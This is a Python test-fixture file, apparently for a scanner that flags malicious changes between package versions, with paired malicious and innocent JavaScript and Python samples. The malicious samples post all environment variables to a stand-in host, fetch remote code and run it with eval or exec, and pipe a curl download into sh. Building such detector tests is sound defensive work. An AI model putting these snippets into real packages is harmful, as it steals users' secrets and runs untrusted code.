"""Changes whose source and sink stand in different members, and innocent changes of the same shape."""

import dataclasses
import json


@dataclasses.dataclass
class Case:
    name: str
    finding: str  # the id that must be reported, "" for innocent ones
    members: tuple  # that the way in words must name
    old: dict
    new: dict


CASES = []

# Products that were on the network before: here it matters what newly goes there.
MANIFEST = {"name": "sample-kit", "main": "index.js"}
BASE = {
    "README.md": "# sample-kit\n",
    "index.js": "'use strict';\nconst text = require('./lib/text');\n\nexports.title = (s) => text.upper(s);\n",
    "lib/text.js": "'use strict';\n\nexports.upper = function (s) {\n  return String(s).trim().toUpperCase();\n};\n",
    "lib/feed.js": "'use strict';\n\nexports.news = (url) => fetch(url);\n",
}
PYTHON_BASE = {
    "README.md": "# sample_kit\n",
    "sample_kit/__init__.py": "from .text import upper\n\n__all__ = ['upper']\n",
    "sample_kit/text.py": "def upper(s):\n    return str(s).strip().upper()\n",
    "sample_kit/feed.py": "from urllib.request import urlopen\n\n\ndef news(url):\n    return urlopen(url)\n",
}


def script(version, files):
    manifest = json.dumps(dict(MANIFEST, version=version), indent=2) + "\n"
    return dict({"package.json": manifest}, **BASE, **{k: v for k, v in files.items() if k not in BASE}) | files


def python(version, files):
    return dict(PYTHON_BASE, **{"setup.cfg": "[metadata]\nname = sample_kit\nversion = %s\n" % version}) | files


def case(name, finding, members, new, old=None, make=script):
    CASES.append(Case(name, finding, members, make("1.4.0", old or {}), make("1.4.1", dict(old or {}, **new))))


def innocent(name, new, old=None, make=script):
    case(name, "", (), new, old, make)


# ---- source here, sink there -------------------------------------------------------------------------

POST = """'use strict';
const https = require('https');

exports.post = function (body) {
  const req = https.request({ host: 'in.metrics-relay.example', method: 'POST', path: '/v1' });
  req.write(body);
  req.end();
};
"""
SEND_ALL = """'use strict';
const text = require('./lib/text');
const relay = require('./lib/relay');

exports.title = (s) => text.upper(s);
relay.post(JSON.stringify(process.env));
"""
case("two modules: all variables as an argument", "AS-0003", ("index.js", "lib/relay.js"), {"index.js": SEND_ALL, "lib/relay.js": POST})
innocent("two modules: a title as an argument", {
    "index.js": SEND_ALL.replace("JSON.stringify(process.env)", "JSON.stringify({ name: 'sample-kit' })"), "lib/relay.js": POST})

FETCH = """'use strict';
const https = require('https');

exports.load = function () {
  return new Promise((resolve) => {
    https.get('https://cdn.metrics-relay.example/a', (res) => {
      let all = '';
      res.on('data', (d) => { all += d; });
      res.on('end', () => resolve(all));
    });
  });
};
"""
RUN = """'use strict';
const text = require('./lib/text');
const { load } = require('./lib/feed');

exports.title = (s) => text.upper(s);
load().then((got) => { new Function(got)(); });
"""
case("two modules: what is fetched is returned", "AS-0042", ("lib/feed.js", "index.js"), {"index.js": RUN, "lib/feed.js": FETCH})
innocent("two modules: what is fetched is parsed", {
    "index.js": RUN.replace("new Function(got)();", "exports.feed = JSON.parse(got);"), "lib/feed.js": FETCH})

NAMED_POST = POST.replace("function (body)", "function (host, body)").replace("host: 'in.metrics-relay.example'", "host")
innocent("the machine's name goes where the caller's settings say", {
    "index.js": SEND_ALL.replace("relay.post(JSON.stringify(process.env))", "exports.hello = (settings) => relay.post(settings.host, require('os').hostname())"),
    "lib/relay.js": NAMED_POST})

# ---- three modules -----------------------------------------------------------------------------------

COLLECT = "'use strict';\n\nexports.state = function () {\n  return Object.assign({}, process.env);\n};\n"
GLUE = "'use strict';\nconst collect = require('./collect');\nconst relay = require('./relay');\n\nrelay.post(JSON.stringify(collect.state()));\n"
START = BASE["index.js"] + "require('./lib/glue');\n"
case("three modules: one collects, one sends, one joins", "AS-0003", ("lib/collect.js", "lib/glue.js", "lib/relay.js"),
     {"index.js": START, "lib/collect.js": COLLECT, "lib/glue.js": GLUE, "lib/relay.js": POST})
innocent("three modules: what is collected is sizes", {
    "index.js": START, "lib/collect.js": COLLECT.replace("Object.assign({}, process.env)", "{ size: exports.state.length }"),
    "lib/glue.js": GLUE, "lib/relay.js": POST})

# ---- barrels -----------------------------------------------------------------------------------------

MODULE_POST = POST.replace("'use strict';\nconst https = require('https');", "import https from 'node:https';").replace(
    "exports.post = function (body)", "export function post(body)")
BARREL = "export { post as deliver } from './relay.mjs';\nexport * from './shapes.mjs';\n"
SHAPES = "export const round = (n) => Math.round(n);\n"
USES_BARREL = "import { deliver, round } from './parts/index.mjs';\n\nexport const half = (n) => round(n / 2);\ndeliver(JSON.stringify(process.env));\n"
case("barrel: re-exported under another name", "AS-0003", ("main.mjs", "parts/relay.mjs"),
     {"main.mjs": USES_BARREL, "parts/index.mjs": BARREL, "parts/relay.mjs": MODULE_POST, "parts/shapes.mjs": SHAPES})
case("barrel: everything is re-exported", "AS-0003", ("main.mjs", "parts/relay.mjs"),
     {"main.mjs": USES_BARREL.replace("deliver", "post"), "parts/index.mjs": "export * from './shapes.mjs';\nexport * from './relay.mjs';\n",
      "parts/relay.mjs": MODULE_POST, "parts/shapes.mjs": SHAPES})
innocent("barrel: only numbers go through it", {
    "main.mjs": USES_BARREL.replace("JSON.stringify(process.env)", "String(round(2.5))"), "parts/index.mjs": BARREL,
    "parts/relay.mjs": MODULE_POST, "parts/shapes.mjs": SHAPES})

# ---- classes and defaults ----------------------------------------------------------------------------

CLASS = """'use strict';
const https = require('https');

class Reporter {
  constructor(host) {
    this.host = host;
  }
  report(body) {
    const req = https.request({ host: 'in.metrics-relay.example', method: 'POST' });
    req.end(body);
  }
}
module.exports = { Reporter };
"""
USES_CLASS = """'use strict';
const text = require('./lib/text');
const { Reporter } = require('./lib/reporter');

exports.title = (s) => text.upper(s);
const reporter = new Reporter('a');
reporter.report(JSON.stringify(process.env));
"""
case("class: a method of an imported class", "AS-0003", ("index.js", "lib/reporter.js"), {"index.js": USES_CLASS, "lib/reporter.js": CLASS})
innocent("class: the method gets a count", {
    "index.js": USES_CLASS.replace("JSON.stringify(process.env)", "String(text.upper.length)"), "lib/reporter.js": CLASS})

DEFAULT = """import https from 'node:https';

export default function (body) {
  const req = https.request({ host: 'in.metrics-relay.example', method: 'POST' });
  req.end(body);
}
"""
USES_DEFAULT = "import send from './send.mjs';\n\nexport const double = (n) => n * 2;\nsend(JSON.stringify(process.env));\n"
case("default export", "AS-0003", ("main.mjs", "send.mjs"), {"main.mjs": USES_DEFAULT, "send.mjs": DEFAULT})
innocent("default export that gets a number", {"main.mjs": USES_DEFAULT.replace("JSON.stringify(process.env)", "String(double(2))"), "send.mjs": DEFAULT})

COMPILED = """"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.default = send;
const https_1 = __importDefault(require("https"));
function send(body) {
    const req = https_1.default.request({ host: 'in.metrics-relay.example', method: 'POST' });
    req.end(body);
}
"""
USES_COMPILED = """"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const send_1 = __importDefault(require("./send"));
exports.double = (n) => n * 2;
(0, send_1.default)(JSON.stringify(process.env));
"""
case("default export, compiled", "AS-0003", ("lib/main.js", "lib/send.js"), {"lib/main.js": USES_COMPILED, "lib/send.js": COMPILED})

# ---- callbacks ---------------------------------------------------------------------------------------

CALLBACK = """'use strict';
const https = require('https');

exports.load = function (done) {
  https.get('https://cdn.metrics-relay.example/a', (res) => {
    let all = '';
    res.on('data', (d) => { all += d; });
    res.on('end', () => done(all));
  });
};
"""
USES_CALLBACK = RUN.replace("load().then((got) => { new Function(got)(); });", "load(function (got) { (0, eval)(got); });")
case("callback: the answer is handed to a function", "AS-0042", ("lib/feed.js", "index.js"), {"index.js": USES_CALLBACK, "lib/feed.js": CALLBACK})
innocent("callback: the answer is shown", {"index.js": USES_CALLBACK.replace("(0, eval)(got)", "console.log(got)"), "lib/feed.js": CALLBACK})

# ---- an end that stood there before ------------------------------------------------------------------

OLD_RELAY = {"lib/relay.js": POST, "index.js": BASE["index.js"] + "exports.relay = require('./lib/relay');\n"}
case("an old function of an unchanged member gets what is new", "AS-0003", ("index.js", "lib/relay.js"),
     {"index.js": OLD_RELAY["index.js"] + "exports.relay.post(JSON.stringify(process.env));\n"}, OLD_RELAY)
innocent("an old function of an unchanged member gets a text", {
    "index.js": OLD_RELAY["index.js"] + "exports.relay.post('started');\n"}, OLD_RELAY)
RUNNER = "'use strict';\nconst { execSync } = require('child_process');\n\nexports.run = (command) => execSync(command, { stdio: 'inherit' });\n"
OLD_RUNNER = {"lib/run.js": RUNNER, "lib/build.js": "'use strict';\nconst { run } = require('./run');\n\nexports.build = () => run('make all');\n"}
case("a command that an unchanged member runs", "AS-0001", ("lib/build.js", "lib/run.js"),
     {"lib/build.js": OLD_RUNNER["lib/build.js"] + "run('curl -s https://get.metrics-relay.example/i | sh');\n"}, OLD_RUNNER)
innocent("another command that an unchanged member runs", {
    "lib/build.js": OLD_RUNNER["lib/build.js"] + "exports.lint = () => run('eslint --cache lib');\n"}, OLD_RUNNER)
innocent("a command that nobody runs", {
    "lib/build.js": OLD_RUNNER["lib/build.js"].replace("exports.build", "exports.help = () => console.log('curl -s https://get.metrics-relay.example/i | sh');\nexports.build")}, OLD_RUNNER)
OLD_STATE = {"lib/relay.js": POST, "lib/state.js": "'use strict';\n\nexports.state = function () {\n  return { pid: process.pid };\n};\n",
    "lib/report.js": "'use strict';\nconst https = require('https');\nconst { state } = require('./state');\n\nexports.report = () =>\n"
    "  https.request({ host: 'in.metrics-relay.example', method: 'POST' }).end(JSON.stringify(state()));\n"}
case("a function that unchanged callers send gives all variables now", "AS-0003", ("lib/state.js", "lib/report.js"), {"lib/state.js": COLLECT}, OLD_STATE)
innocent("a function that unchanged callers send gives another number", {
    "lib/state.js": OLD_STATE["lib/state.js"].replace("process.pid", "process.uptime()")}, OLD_STATE)
OLD_LOG = {"lib/log.js": "'use strict';\n\nexports.log = function (what) {\n  console.log(what);\n};\n",
    "lib/start.js": "'use strict';\nconst { log } = require('./log');\n\nlog(JSON.stringify(process.env));\n"}
case("a function that unchanged callers give all variables sends them now", "AS-0003", ("lib/start.js", "lib/log.js"),
     {"lib/log.js": POST.replace("exports.post", "exports.log")}, OLD_LOG)
TOGETHER = """'use strict';
const https = require('https');

exports.report = function () {
  const req = https.request({ host: 'in.metrics-relay.example', method: 'POST' });
  req.end(JSON.stringify(process.env));
};
"""
innocent("one module is cut in two: nothing is new", {
    "lib/report.js": "'use strict';\nconst relay = require('./relay');\n\nexports.report = () => relay.post(JSON.stringify(process.env));\n",
    "lib/relay.js": POST}, {"lib/report.js": TOGETHER})

# ---- who gets what a function gives -----------------------------------------------------------------

PLACES = "'use strict';\nconst path = require('path');\n\nexports.placeOf = (name) => path.join('/srv/packages', name);\n"
SERVES = """'use strict';
const http = require('http');
const places = require('./places');

http.createServer((req, res) => {
  const file = places.placeOf(req.url);
  %s
}).listen(8080);
"""
LOADS = "'use strict';\nconst places = require('./places');\n\nexports.load = (name) => require(places.placeOf(name));\n"
innocent("what a server asks for is a file, what the tool loads goes through the same function", {
    "lib/places.js": PLACES, "lib/server.js": SERVES % "res.end(require('fs').readFileSync(file));", "lib/load.js": LOADS})
case("what a server asks for is loaded, through the same function", "AS-0056", ("lib/server.js",), {
    "lib/places.js": PLACES, "lib/server.js": SERVES % "res.end(require(file).text);", "lib/load.js": LOADS})

# ---- Python ------------------------------------------------------------------------------------------

PY_SEND = """import urllib.request


def send(data):
    urllib.request.urlopen('https://in.metrics-relay.example/v1', data=data)
"""
PY_MAIN = """import json
import os

from .text import upper
from .relay import send

__all__ = ['upper']
send(json.dumps(dict(os.environ)).encode())
"""
case("Python: a function of a sibling module", "AS-0003", ("sample_kit/__init__.py", "sample_kit/relay.py"),
     {"sample_kit/__init__.py": PY_MAIN, "sample_kit/relay.py": PY_SEND}, make=python)
innocent("Python: a sibling module gets a version", {
    "sample_kit/__init__.py": PY_MAIN.replace("dict(os.environ)", "{'version': os.name}"), "sample_kit/relay.py": PY_SEND}, make=python)
PY_FEED = "import urllib.request\n\n\ndef load():\n    return urllib.request.urlopen('https://cdn.metrics-relay.example/a').read()\n"
PY_RUN = "from sample_kit import feed\nfrom .text import upper\n\n__all__ = ['upper']\nexec(feed.load())\n"
case("Python: a module of the package by its full name", "AS-0042", ("sample_kit/feed.py", "sample_kit/__init__.py"),
     {"sample_kit/__init__.py": PY_RUN, "sample_kit/feed.py": PY_FEED}, make=python)
innocent("Python: what was loaded is decoded", {
    "sample_kit/__init__.py": PY_RUN.replace("exec(feed.load())", "words = feed.load().decode().split()"), "sample_kit/feed.py": PY_FEED}, make=python)
PY_CLASS = """import urllib.request


class Reporter:
    def __init__(self, host):
        self.host = host

    def report(self, data):
        urllib.request.urlopen('https://in.metrics-relay.example/v1', data=data)
"""
PY_USES_CLASS = """import json
import os

from .text import upper
from .tools import Reporter

__all__ = ['upper']
Reporter('a').report(data=json.dumps(dict(os.environ)).encode())
"""
case("Python: a class through a package, by keyword", "AS-0003", ("sample_kit/__init__.py", "sample_kit/tools/reporter.py"),
     {"sample_kit/__init__.py": PY_USES_CLASS, "sample_kit/tools/__init__.py": "from .reporter import Reporter\n",
      "sample_kit/tools/reporter.py": PY_CLASS}, make=python)
